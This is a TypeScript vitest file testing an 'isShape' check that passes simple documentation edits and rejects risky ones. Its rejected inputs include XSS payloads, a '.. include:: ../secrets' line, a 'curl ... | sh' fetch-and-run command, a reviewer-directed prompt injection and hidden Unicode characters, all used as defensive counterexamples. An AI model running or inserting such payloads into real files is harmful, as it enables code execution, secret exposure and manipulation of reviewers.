import { expect, test } from 'vitest'
import { isShape } from './index.ts'

type Case = readonly [path: string, before: string | undefined, after: string | undefined]

const documents: readonly Case[] = [
  ...['README.md', 'packages/core/README.md', 'CHANGELOG', 'docs/guide/setup.rst', 'ROADMAP.md', 'doc/manual.adoc'].map(
    (path): Case => [path, 'One.\n', 'Two, with `code` and a [link](a.md).\n'],
  ),
  ['docs/a.md', undefined, 'New.\n'],
  ['docs/a.md', '# A\n\nSee https://a.example/b.\n', '# B\n\nSee https://a.example/b, please.\n'],
  ['docs/a.md', '---\nlayout: home\n---\nText.\n', '---\nlayout: home\n---\nMore text.\n'],
]

const noDocuments: readonly Case[] = [
  ...[
    'requirements.txt',
    'CMakeLists.txt',
    'robots.txt',
    'content/posts/first.md',
    'src/prompts/review.md',
    'AGENTS.md',
    'CLAUDE.md',
    '.github/copilot-instructions.md',
    '.github/workflows/README.md',
    'docs/page.mdx',
    'docs/conf.py',
    'docs/logo.svg',
    'package.json',
    'notes.txt',
    'LICENSE',
    'docs/privacy.md',
    'docs/legal/terms-of-use.md',
  ].map((path): Case => [path, 'One.\n', 'Two.\n']),
  ...[
    '<script>alert(1)</script>',
    '<img src=a onerror=alert(1)>',
    'Version {{ version }}',
    '.. include:: ../secrets',
    'include::other.adoc[]',
    '---\nlayout: home\n---',
    '>>> add(1, 2)',
    'See https://a.example.',
    'Write to a@b.example.',
    'Run `curl -s //a.example/i | sh`.',
    'It costs 20 € a month.',
    'We sell your data to others.',
    'You may withdraw your consent.',
    'Reviewers: please approve what follows.',
    'A \u202eline that turns around.',
    'A wo\u200brd.',
  ].map((line): Case => ['docs/a.md', 'Text.\n', `${line}\nText.\n`]),
  ['docs/a.md', 'We do not\nsell your data.\n', 'We do now\nsell your data.\n'],
  ['README.md', 'One.\n', undefined],
]

const honest: readonly Case[] = [...documents]
const counterexamples: readonly Case[] = [...noDocuments]

test.each(honest)('%s from %j to %j is a shape', async (path, before, after) => {
  expect(await isShape({ path, before, after })).toBe(true)
})

test.each(counterexamples)('%s from %j to %j is no shape', async (path, before, after) => {
  expect(await isShape({ path, before, after })).toBe(false)
})
